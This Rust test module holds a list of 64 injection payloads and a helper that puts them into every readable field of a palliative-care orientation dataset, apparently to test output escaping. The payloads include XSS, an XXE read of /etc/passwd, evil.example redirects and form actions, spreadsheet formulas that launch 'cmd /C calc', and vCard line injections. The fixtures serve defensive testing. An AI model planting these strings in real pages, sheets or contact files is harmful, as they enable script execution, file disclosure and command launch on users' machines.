//! Texts that would be more than text where an output did not take care.

use orientation_palliative::model::Dataset;
use serde_json::Value;

/// For pages, drawings, links, sheets, contact cards and templates.
pub const PAYLOADS: [&str; 64] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onclick='alert(1)",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>*{display:none}</style>",
    "</style><script>alert(1)</script>",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input>",
    "<!--",
    "-->",
    "<!--><script>alert(1)</script>",
    "]]>",
    "<![CDATA[<script>]]>",
    "<?xml version=\"1.0\"?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&e;",
    "&",
    "&amp",
    "</title><script>alert(1)</script>",
    "</textarea><img src=x>",
    "</svg><script>alert(1)</script>",
    "</text><a href=\"javascript:alert(1)\"><text>",
    "<foreignObject><body onload=alert(1)>",
    "<use href=\"data:image/svg+xml,x\"/>",
    "<set attributeName=onload to=alert(1)/>",
    "</li></ul><h1>15 : faux</h1>",
    "</td></tr></table><p>",
    "<plaintext>",
    "<template><script>alert(1)</script>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example",
    "https://www.aphp.fr@evil.example/",
    "=HYPERLINK(\"https://evil.example\";\"15\")",
    "+HYPERLINK(\"//x\")",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=1+1",
    "\";=1+1;\"",
    "a;b;c",
    "a,b\"c",
    "Nom\r\nTEL:0899123456",
    "Nom\nEND:VCARD\nBEGIN:VCARD",
    "Nom\\nTEL:0899123456",
    "a\\,b;c:d",
    "TEL;TYPE=CELL:0899123456",
    "\u{85}TEL:0899123456",
    "\u{2028}TEL:0899123456",
    "\u{202e}51\u{202c}",
    "\u{200b}\u{feff}",
    "{{script}}",
    "{name}{row}{filiere}{date}",
];

/// The dataset with another text in the place of each that people read: `text` is given its
/// number, from 1.
pub fn with(data: &Dataset, text: impl Fn(usize) -> String) -> Dataset {
    let mut all = serde_json::to_value(data).unwrap();
    let mut count = 0;
    let mut put = |value: &mut Value| {
        if value.is_string() {
            count += 1;
            *value = text(count).into();
        }
    };
    for (list, fields) in [
        ("/structures/structures", &["name"][..]),
        ("/sources/sources", &["title"]),
        ("/communes/communes", &["name"]),
        ("/elsewhere/departments", &["name"]),
        ("/filiere/territories", &["name"]),
    ] {
        for item in all.pointer_mut(list).unwrap().as_array_mut().unwrap() {
            for field in fields {
                put(&mut item[*field]);
            }
            let addresses = item.get_mut("contacts").and_then(Value::as_array_mut);
            for contact in addresses.into_iter().flatten().filter(|c| c["field"] == "address") {
                put(&mut contact["value"]);
            }
            let aliases = item.get_mut("aliases").and_then(Value::as_array_mut);
            aliases.into_iter().flatten().for_each(&mut put);
        }
    }
    put(&mut all["filiere"]["name"]);
    each_text(&mut all["texts"], &mut put);
    assert!(count > 1_000, "{count} texts only");
    serde_json::from_value(all).unwrap()
}

/// Each string in a value.
pub fn each_text(value: &mut Value, put: &mut impl FnMut(&mut Value)) {
    match value {
        Value::Object(fields) => fields.values_mut().for_each(|value| each_text(value, put)),
        other => put(other),
    }
}
